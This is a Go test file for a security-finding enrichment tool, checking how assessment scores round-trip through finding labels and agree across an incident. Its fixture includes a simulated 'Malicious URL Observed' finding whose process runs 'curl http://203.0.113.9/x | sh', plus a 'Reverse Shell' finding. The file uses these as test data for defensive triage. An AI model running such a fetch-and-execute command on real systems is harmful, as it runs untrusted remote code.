package marks

import (
	"fmt"
	"maps"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/scc-enricher/scc-enricher/pkg/assess"
	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
	"github.com/scc-enricher/scc-enricher/pkg/incident"
	"github.com/scc-enricher/scc-enricher/pkg/record"
	"github.com/scc-enricher/scc-enricher/pkg/redact"
)

func TestStanding(t *testing.T) {
	t.Parallel()
	full := map[string]string{
		"schema": "1", "event_time": event.Format(EventTimeLayout), "own_score": "080",
		"reasons": "related_stronger(+50),Category(+25), fresh_deploy(-10),zero(+0),broken,x(y),far(+900),(+3)",
		"sources": "findings=ok,logs=empty,virustotal=quota", "exposure": "PUBLIC", "config_risks": "mutable_image_tag,secrets_mounted",
	}
	want := assess.Standing{
		OwnScore: 80, Points: map[string]int{"category": 25, "fresh_deploy": -10},
		Sources:  map[string]evidence.State{"findings": evidence.OK, "logs": evidence.Empty, "virustotal": evidence.Quota},
		Exposure: assess.Public, Privileged: true,
	}
	bare := assess.Standing{Points: map[string]int{}, Sources: map[string]evidence.State{}, Exposure: assess.ExposureUnknown}
	tests := []struct {
		name   string
		change map[string]string
		want   assess.Standing
		ok     bool
	}{
		{"all", nil, want, true},
		{"little", map[string]string{"own_score": "000", "reasons": "", "sources": "", "exposure": "everyone", "config_risks": ""}, bare, true},
		{"another schema", map[string]string{"schema": "2"}, assess.Standing{}, false},
		{"another event", map[string]string{"event_time": event.Add(time.Nanosecond).Format(EventTimeLayout)}, assess.Standing{}, false},
		{"no event", map[string]string{"event_time": ""}, assess.Standing{}, false},
		{"no own score", map[string]string{"own_score": ""}, assess.Standing{}, false},
		{"own score out of range", map[string]string{"own_score": "101"}, assess.Standing{}, false},
	}
	for _, tt := range tests {
		f := &finding.Finding{EventTime: event, Marks: map[string]string{"owner": "me"}}
		for _, values := range []map[string]string{full, tt.change} {
			for name, v := range values {
				f.Marks["ENRICH_"+name] = v
			}
		}
		got, ok := Standing("enrich_", f, map[string]bool{"related_stronger": true})
		if ok != tt.ok {
			t.Errorf("%s: Standing() = %t, want %t", tt.name, ok, tt.ok)
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
	if _, ok := Standing("enrich_", &finding.Finding{EventTime: event}, nil); ok {
		t.Error("a finding without marks has a standing")
	}
	if _, ok := Standing("enrich_", &finding.Finding{Marks: map[string]string{"enrich_schema": "1", "enrich_own_score": "001"}}, nil); ok {
		t.Error("a finding without event time has a standing")
	}
}

// shells are findings on one container: one explained, one not, one grave.
func shells() []assess.Input {
	one := func(i int, category string, args ...string) assess.Input {
		return assess.Input{
			Finding: &finding.Finding{
				CanonicalName: fmt.Sprintf("projects/1/sources/2/findings/f%d", i), Category: category, Severity: finding.Critical,
				EventTime: event.Add(time.Duration(i) * time.Minute), State: finding.Active,
				Containers: []finding.Container{{Name: "app"}},
				Processes:  []finding.Process{{Name: "java", PID: 1}, {Name: "sh", Args: args, PID: 17, ParentPID: 1, Binary: &finding.File{Path: "/bin/sh"}}},
				Workload:   finding.Workload{Project: "shop", Location: "europe-west1", Kind: finding.Service, Name: "checkout"},
			},
			Evidence: &evidence.Evidence{
				FindingsState: evidence.Status{State: evidence.OK}, LogsState: evidence.Status{State: evidence.Timeout}, VTState: evidence.Status{State: evidence.Disabled},
				ConfigState: evidence.Status{State: evidence.OK}, Config: &evidence.Config{
					Ingress: "all", AllUsers: true, IAMKnown: true, DefaultServiceAccount: i == 2,
					Containers: []evidence.ContainerConfig{{Name: "app", Command: []string{"./docker-entrypoint.sh"}}},
				},
			},
		}
	}
	return []assess.Input{
		one(0, "Unexpected Child Shell", "sh", "-c", "./docker-entrypoint.sh"),
		one(1, "Malicious URL Observed", "sh", "-c", "curl http://203.0.113.9/x | sh"),
		one(2, "Reverse Shell", "sh", "-i"),
	}
}

// many is a policy with more reasons than marks keep, of the longest ids.
func many(t *testing.T) *assess.Policy {
	t.Helper()
	var text strings.Builder
	text.WriteString("id: many\nextends: default\nexplained_at_most: 100\ncaps:\n  config: {min: -100, max: 100}\nrules:\n")
	for i := range 60 {
		fmt.Fprintf(&text, "  - {id: %s%02d, title: t, source: config, when: 'true', points: %d, evidence: e}\n", strings.Repeat("x", 38), i, 1-2*(i%2))
	}
	for i := range 13 {
		fmt.Fprintf(&text, "  - {id: %s%02d, title: t, source: findings, scope: incident, when: 'true', points: 1, evidence: e}\n", strings.Repeat("y", 38), i)
	}
	p, err := assess.Load([]byte(text.String()))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestStandingRoundTrip holds that the marks of a finding, alone or in company,
// give back exactly what it says by itself, and that members who know each
// other from marks only agree.
func TestStandingRoundTrip(t *testing.T) {
	t.Parallel()
	r, err := redact.New()
	if err != nil {
		t.Fatal(err)
	}
	def, err := assess.LoadDefault()
	if err != nil {
		t.Fatal(err)
	}
	for name, p := range map[string]*assess.Policy{"default": def, "many": many(t)} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			members := shells()
			var others []finding.Finding
			for _, in := range members {
				others = append(others, *in.Finding)
			}
			// mark assesses a finding in its incident as the others' marks are now.
			mark := func(in assess.Input, others []finding.Finding) assess.Assessment {
				in.Incident = incident.Group(in.Finding, others, time.Hour, 24*time.Hour)
				in.Standings = map[string]assess.Standing{}
				for _, m := range in.Incident.Others() {
					if st, ok := Standing("enrich_", m.Finding, p.IncidentRules()); ok {
						in.Standings[m.Finding.StableName()] = st
					}
				}
				a := p.Assess(in)
				rec := record.New(record.Input{Finding: in.Finding, Incident: in.Incident, Evidence: in.Evidence, Assessment: a, Now: event}, r)
				in.Finding.Marks = maps.Clone(Render(rec, "enrich_").Values)
				got, ok := Standing("enrich_", in.Finding, p.IncidentRules())
				if !ok {
					t.Fatal("the marks give no standing")
				}
				if diff := cmp.Diff(p.Own(in), got); diff != "" {
					t.Errorf("%s (-said +marks):\n%s\n%s", in.Finding.Category, diff, in.Finding.Marks["enrich_reasons"])
				}
				return a
			}
			for _, in := range members {
				mark(in, nil)
			}
			var first assess.Assessment
			for i, in := range members {
				for j := range others {
					others[j].Marks = members[j].Finding.Marks
				}
				a := mark(in, others)
				if i == 0 {
					first = a
				}
				if a.Score != first.Score || a.Verdict != first.Verdict || a.Priority != first.Priority || a.NextAction != first.NextAction {
					t.Errorf("member %d says %d %s %s %s, the first %d %s %s %s", i, a.Score, a.Verdict, a.Priority, a.NextAction,
						first.Score, first.Verdict, first.Priority, first.NextAction)
				}
			}
			var joined []assess.Standing
			var findings []*finding.Finding
			for _, in := range members {
				st, _ := Standing("enrich_", in.Finding, p.IncidentRules())
				joined, findings = append(joined, st), append(findings, in.Finding)
			}
			if j := p.Joint(joined, findings); j.Score != first.Score || j.Verdict != first.Verdict || j.Priority != first.Priority || j.Action != first.NextAction {
				t.Errorf("together they say %+v, each %d %s %s %s", j, first.Score, first.Verdict, first.Priority, first.NextAction)
			}
		})
	}
}
